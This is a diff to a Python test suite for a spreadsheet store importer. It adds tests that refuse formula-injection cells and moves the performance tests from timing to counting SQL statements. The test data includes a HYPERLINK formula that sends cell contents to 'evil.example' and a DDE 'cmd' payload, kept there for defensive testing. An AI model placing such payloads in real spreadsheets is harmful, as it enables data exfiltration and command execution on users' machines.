@@ -12,6 +12,7 @@ import time
 import openpyxl
 import pytest
 from sqlalchemy import delete, func, select, text
+from sqlalchemy import event as sa_event
 
 from kariya.clock import FixedClock
 from kariya.errors import Invalid, NotFound
@@ -430,6 +431,25 @@ def _refusals():
             "FORMULA",
             "数式が入力されたセルがあります(F2)",
         ),
+        # Text that normalises to "=…" (I-10; issue 14, defect 1): refused like a formula.
+        (
+            "full-width ＝ name",
+            workbook([row("K0001", '＝HYPERLINK("http://evil.example/?"&D3,"明細")')]),
+            "FORMULA",
+            "数式が入力されたセルがあります(B2)",
+        ),
+        (
+            "space before = name",
+            workbook([row("K0001"), row("K0002", " =cmd|' /C calc'!A0")]),
+            "FORMULA",
+            "数式が入力されたセルがあります(B3)",
+        ),
+        (
+            "U+3000 before = address",
+            workbook([row("K0001", 住所="\u3000=1+1")]),
+            "FORMULA",
+            "(F2)",
+        ),
         (
             "merged header",
             workbook([row("K0001")], prepare=_merged_header),
@@ -489,6 +509,41 @@ def test_unusable_files_are_refused_in_japanese_and_nothing_is_written(db, name,
     assert store_count(db) == 0
 
 
+def test_values_are_checked_for_formulas_after_normalisation(db):
+    """I-10 (issue 14, defect 1): the plan refuses what its normalisers turn into text starting
+    with "=", whatever the reading let through: the stored value is what counts."""
+    from kariya.stores.importer.reading import Sheet
+
+    columns_of = {key: n for n, key in enumerate(columns.FIELDS, start=1)}
+    raw = {
+        key: row("K0001")[column.header]
+        for key, column in columns.BY_KEY.items()
+        if key in columns_of
+    }
+    sheet = Sheet(
+        columns=columns_of,
+        headers={key: columns.BY_KEY[key].header for key in columns_of},
+        ignored=[],
+        rows=[(2, raw), (3, {**raw, "code": "K0002", "name": "\u3000＝1+1"})],
+    )
+    with pytest.raises(ImportRefused) as exc:
+        planning.plan(db, sheet)
+    assert exc.value.code == "FORMULA" and "(B3)" in exc.value.message
+    assert "先頭の「=」を取り除いて" in exc.value.message
+
+
+def test_a_small_workbook_of_millions_of_empty_cells_is_refused_on_the_form(db, secretariat):
+    """I-10 (issue 14, defect 6): 3,000 rows x 1,000 empty formatted cells (75 KB) kept a worker
+    for 26 s; the upload is refused (422, Japanese) at once and nothing is kept."""
+    from tests.benchmarks.import_bounds import empty_cells
+
+    started = time.perf_counter()
+    response = upload(secretariat, empty_cells(3000, 1000), status=422)
+    assert time.perf_counter() - started < 5
+    assert "セルが多すぎるため取り込めません" in response.text
+    assert kept_uploads(db) == []
+
+
 # --- the template -------------------------------------------------------------------------------------
 
 
@@ -525,39 +580,61 @@ def _six_hundred() -> bytes:
     )
 
 
-def test_six_hundred_stores_import_in_a_few_seconds(db):
-    """P-7: about 600 stores; reading, checking and creating them all takes well under 5 s,
-    and checking the same file again (all unchanged) a fraction of that."""
+class Statements:
+    """Counts the SQL statements sent on `db`'s connection: a bound on round trips holds on a busy
+    machine where a bound on seconds does not (the seconds are printed, and measured in the README)."""
+
+    def __init__(self, db):
+        self.bind, self.count = db.get_bind(), 0
+
+    def _seen(self, *args):
+        self.count += 1
+
+    def __enter__(self):
+        sa_event.listen(self.bind, "before_cursor_execute", self._seen)
+        self.started = time.perf_counter()
+        return self
+
+    def __exit__(self, *exc):
+        self.elapsed = time.perf_counter() - self.started
+        sa_event.remove(self.bind, "before_cursor_execute", self._seen)
+
+
+def test_six_hundred_stores_import_in_a_few_statements(db):
+    """P-7: about 600 stores; creating them costs one statement per store and a few more (about
+    1.7 s here), and checking the same file again (all unchanged) one query in all. Counted, not
+    timed: a statement more per store fails on any machine, a busy one included."""
     data = _six_hundred()
-    started = time.perf_counter()
-    report = apply(db, data)
-    elapsed = time.perf_counter() - started
-    print(f"\n600-row store import: {elapsed:.2f} s")
+    with Statements(db) as applied:
+        report = apply(db, data)
+    print(f"\n600-row store import: {applied.elapsed:.2f} s, {applied.count} statements")
     assert report.counts["create"] == 600
     assert store_count(db) == 600
-    assert elapsed < 5.0
-    started = time.perf_counter()
-    again = planning.preview(db, data)
-    elapsed = time.perf_counter() - started
-    print(f"600-row preview (all unchanged): {elapsed:.2f} s")
+    assert applied.count <= 600 + 20
+    with Statements(db) as previewed:
+        again = planning.preview(db, data)
+    print(
+        f"600-row preview (all unchanged): {previewed.elapsed:.2f} s, {previewed.count} statements"
+    )
     assert again.counts["unchanged"] == 600
-    assert elapsed < 5.0
+    assert previewed.count <= 5
 
 
 def test_six_hundred_stores_import_and_activation(db):
     """P-7, S-2: the same with --activate: each new store also goes through review, approval
-    and activation (1,800 recorded transitions) and gets its QR token. About 3 s on an idle
-    2-core machine; the bound is generous for a machine busy with other test runs."""
-    started = time.perf_counter()
-    report = apply(db, _six_hundred(), activate=True)
-    elapsed = time.perf_counter() - started
-    print(f"\n600-row store import with activation: {elapsed:.2f} s")
+    and activation (1,800 recorded transitions) and gets its QR token: eight statements per
+    store (about 3 s on an idle 2-core machine; counted, not timed)."""
+    with Statements(db) as applied:
+        report = apply(db, _six_hundred(), activate=True)
+    print(
+        f"\n600-row store import with activation: {applied.elapsed:.2f} s, {applied.count} statements"
+    )
     assert report.activated == 600
     assert (
         db.scalar(select(func.count()).where(Store.state == "active", Store.qr_token.is_not(None)))
         == 600
     )
-    assert elapsed < 10.0
+    assert applied.count <= 8 * 600 + 20
 
 
 # --- the secretariat's screens ----------------------------------------------------------------------
